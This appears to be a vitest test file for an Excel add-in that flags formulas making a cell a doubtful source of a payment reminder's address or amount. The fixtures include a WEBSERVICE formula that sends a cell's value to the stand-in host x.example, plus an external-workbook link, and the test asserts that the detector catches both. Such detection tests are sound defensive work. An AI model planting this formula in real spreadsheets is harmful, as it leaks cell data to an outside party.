// Formulas that make a cell no source of a recipient or an amount, found through the real Office.js.
import { describe, expect, it } from 'vitest';
import { doubtfulCells } from '../../addin/excel.ts';
import type { SourceCell } from '../../core/doubtful-formula.ts';
import { granted, ledgerWorkbook, openInExcel } from './excel-workbooks.ts';

const WEB_ADDRESS = '=WEBSERVICE("http://x.example/"&A3)';
const email = (row: number): SourceCell => ({ column: 'J', row, use: 'address' });
const amount = (row: number): SourceCell => ({ column: 'H', row, use: 'amount' });

function open() {
  const workbook = ledgerWorkbook(400);
  const [sheet] = workbook.sheets;
  if (!sheet) throw new Error('the ledger has no sheet');
  sheet.cells.setFormula(2, 9, WEB_ADDRESS);
  sheet.cells.setFormula(3, 7, '=F4-G4');
  sheet.cells.setFormula(4, 7, "='C:\\x\\[Book.xlsx]S'!A1");
  return openInExcel(workbook);
}

describe('the cells a reminder draws on', () => {
  it('are looked at in one request, however many rows; doubtful ones are named', async () => {
    const office = open();
    const rows = Array.from({ length: 200 }, (_, at) => 2 * at + 3);
    const before = office.traffic.syncs;
    const found = granted(await doubtfulCells('Debtors', [...rows.map(email), ...[2, 3, 4, 5].map(amount)]));
    // One that asks, and the one with which Excel.run gives back what it was lent.
    expect(office.traffic.syncs - before).toBe(2);
    expect(found).toEqual([
      { column: 'J', row: 3, use: 'address', doubt: 'web' },
      { column: 'H', row: 5, use: 'amount', doubt: 'other-workbook' },
    ]);
    expect([...office.engine.missing]).toEqual([]);
  });

  it('are refused when their sheet is gone', async () => {
    open();
    expect(await doubtfulCells('Gone', [email(2)])).toMatchObject({ refused: 'sheet-gone' });
  });
});
